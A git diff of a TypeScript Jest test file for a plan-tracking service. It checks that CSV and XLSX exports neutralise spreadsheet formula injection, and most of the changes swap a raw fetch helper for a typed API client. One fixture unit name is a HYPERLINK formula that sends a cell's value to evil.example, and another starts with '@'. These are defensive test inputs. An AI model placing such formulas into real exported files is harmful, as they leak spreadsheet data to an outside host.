@@ -1,7 +1,7 @@
 import { type ReportEvent, computeBulletin, computeDispatch, storeReport } from '@closeloop/reports';
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
-import { apiClient } from '../support/http';
+import { type ApiClient } from '../support/api';
 import { type RunningStack, startStack } from '../support/running-stack';
 
 /**
@@ -24,24 +24,24 @@ const units = [
   { id: 'hhht', name: '呼和浩特市人民政府', kind: 'plan_owner' },
   { id: 'hhht-eco', name: '=HYPERLINK("https://evil.example/?u="&B2,"督导")', kind: 'department', parentId: 'hhht' },
   { id: 'hhht-water', name: '@水务局', kind: 'department', parentId: 'hhht' },
-];
+] as const;
 
 describe('formula injection: exported cells are neutralised', () => {
   jest.setTimeout(120_000);
   let stack: RunningStack;
-  let call: ReturnType<typeof apiClient>;
-  const raw = (path: string, accept: string) =>
-    fetch(`${stack.baseUrl}${path}`, { headers: { authorization: `Bearer ${stack.adminKey}`, accept } });
+  let admin: ApiClient;
+  /** The ledger's bytes in the format `accept` asks for. */
+  const ledger = (accept: string) =>
+    admin.GET('/v1/plans/{id}/ledger', { params: { path: { id: 'EVIL' } }, headers: { accept }, parseAs: 'arrayBuffer' });
 
   beforeAll(async () => {
     stack = await startStack();
-    call = apiClient(stack.baseUrl);
-    for (const unit of units) expect((await call('POST', '/v1/units', { key: stack.adminKey, body: unit })).status).toBe(201);
+    admin = stack.client(stack.adminKey);
+    for (const unit of units) expect((await admin.POST('/v1/units', { body: unit })).response.status).toBe(201);
     const plan = { id: 'EVIL', title: '整改方案', sourceInspection: '督察', ownerUnitId: 'hhht', policy: { dueSoonBefore: 'P7D' } };
-    expect((await call('POST', '/v1/plans', { key: stack.adminKey, body: plan })).status).toBe(201);
+    expect((await admin.POST('/v1/plans', { body: plan })).response.status).toBe(201);
     for (const [i, text] of payloads.entries()) {
-      const res = await call('POST', '/v1/items', {
-        key: stack.adminKey,
+      const res = await admin.POST('/v1/items', {
         body: {
           planCode: 'EVIL',
           code: `E${i + 1}`,
@@ -53,15 +53,15 @@ describe('formula injection: exported cells are neutralised', () => {
           supervisingUnitId: 'hhht-eco',
         },
       });
-      expect({ text, status: res.status }).toEqual({ text, status: 201 });
+      expect({ text, status: res.response.status }).toEqual({ text, status: 201 });
     }
   });
   afterAll(() => stack?.stop());
 
   it('CSV ledger: a UTF-8 BOM, and every cell that would start a formula starts with a single quote', async () => {
-    const res = await raw('/v1/plans/EVIL/ledger', 'text/csv');
-    expect(res.status).toBe(200);
-    const bytes = Buffer.from(await res.arrayBuffer());
+    const res = await ledger('text/csv');
+    expect(res.response.status).toBe(200);
+    const bytes = Buffer.from(res.data!);
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const rows: string[][] = parse(bytes.toString('utf8').slice(1), { relax_column_count: true });
     expect(rows).toHaveLength(payloads.length + 1);
@@ -74,9 +74,9 @@ describe('formula injection: exported cells are neutralised', () => {
   });
 
   it('XLSX ledger: the same text, as plain strings, never formulas', async () => {
-    const res = await raw('/v1/plans/EVIL/ledger', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
-    expect(res.status).toBe(200);
-    const buffer = Buffer.from(await res.arrayBuffer());
+    const res = await ledger('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
+    expect(res.response.status).toBe(200);
+    const buffer = Buffer.from(res.data!);
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(buffer as unknown as ExcelJS.Buffer);
     const sheet = workbook.worksheets[0];
@@ -111,11 +111,15 @@ describe('formula injection: exported cells are neutralised', () => {
     await storeReport(stack.database.db, computeBulletin(events, names, '2026-10'), new Date('2026-11-01T00:00:00Z'));
     await storeReport(stack.database.db, computeDispatch(events, names, '2026-W42'), new Date('2026-10-19T00:00:00Z'));
 
-    for (const path of ['/v1/reports/bulletin?month=2026-10&format=xlsx', '/v1/reports/dispatch?week=2026-W42&format=xlsx']) {
-      const res = await raw(path, '*/*');
-      expect({ path, status: res.status }).toEqual({ path, status: 200 });
+    const xlsx = { headers: { accept: '*/*' }, parseAs: 'arrayBuffer' } as const;
+    for (const [path, answer] of [
+      ['bulletin 2026-10', () => admin.GET('/v1/reports/bulletin', { params: { query: { month: '2026-10', format: 'xlsx' } }, ...xlsx })],
+      ['dispatch 2026-W42', () => admin.GET('/v1/reports/dispatch', { params: { query: { week: '2026-W42', format: 'xlsx' } }, ...xlsx })],
+    ] as const) {
+      const res = await answer();
+      expect({ path, status: res.response.status }).toEqual({ path, status: 200 });
       const workbook = new ExcelJS.Workbook();
-      await workbook.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ExcelJS.Buffer);
+      await workbook.xlsx.load(Buffer.from(res.data!) as unknown as ExcelJS.Buffer);
       const values: unknown[] = [];
       workbook.worksheets[0].eachRow((row) =>
         row.eachCell((cell) => {
